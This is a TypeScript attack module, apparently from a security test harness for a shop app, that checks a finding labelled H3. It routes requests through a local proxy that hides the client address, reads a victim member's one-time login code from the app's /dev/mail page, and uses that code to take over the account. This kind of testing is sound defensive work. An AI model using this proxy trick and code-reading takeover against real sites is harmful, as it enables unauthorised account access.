import { once } from 'node:events';
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Attack } from '../attack.ts';
import type { Shop } from '../shop.ts';
import { codesIn, requestCode, tokenIn, turnIn } from '../stranger/member.ts';
import { Visitor } from '../stranger/visitor.ts';

const VICTIM = 'member@pinpu.test';

/** Only knows the shop's address: sends that as the host, and no client address. */
async function plainProxy({ url }: Shop) {
  const { host } = new URL(url);
  const proxy = createServer((incoming, outgoing) => {
    const { method = 'GET', headers } = incoming;
    const passedOn = { method, headers: { ...headers, host } };
    const sent = request(new URL(incoming.url ?? '/', url), passedOn, (answer) => {
      outgoing.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(outgoing);
    });
    incoming.pipe(sent);
  }).listen(0, '127.0.0.1');
  await once(proxy, 'listening');
  const { port } = proxy.address() as AddressInfo;
  const close = () => {
    proxy.close();
    proxy.closeAllConnections();
  };
  return { url: `http://127.0.0.1:${port}`, close };
}

/** The newest mail that the shop shows; '' if it shows none. */
async function newestMail(stranger: Visitor): Promise<string> {
  const { text } = await stranger.get('/dev/mail');
  const href = /href="(\/dev\/mail\/[^"]+\.eml)"/.exec(text)?.[1];
  return href ? (await stranger.get(href)).text : '';
}

/** Requests a code for a member, and reads it on the shop's own mail page. */
export const devMailThroughAProxy: Attack = {
  finding: 'H3',
  title: "a member's code read at /dev/mail through a plain proxy",
  settings: { SMTP_URL: '' },
  run: async (shop) => {
    const proxy = await plainProxy(shop);
    try {
      const stranger = new Visitor({ url: proxy.url, host: shop.host });
      await requestCode(stranger, VICTIM);
      const mails = await shop.query(`SELECT 1 FROM outbox_mails WHERE to_email = '${VICTIM}'`);
      const read = async (tries: number): Promise<string> =>
        (await newestMail(stranger)) || (tries > 0 ? read(tries - 1) : '');
      const { typed } = codesIn(await read(200));
      const token = tokenIn(await turnIn(stranger, VICTIM, typed || '000000'));
      const counted = `${mails.length} code sent, ${typed ? 1 : 0} read, ${token ? 1 : 0} account taken`;
      return { succeeded: token !== '', counted };
    } finally {
      proxy.close();
    }
  },
};
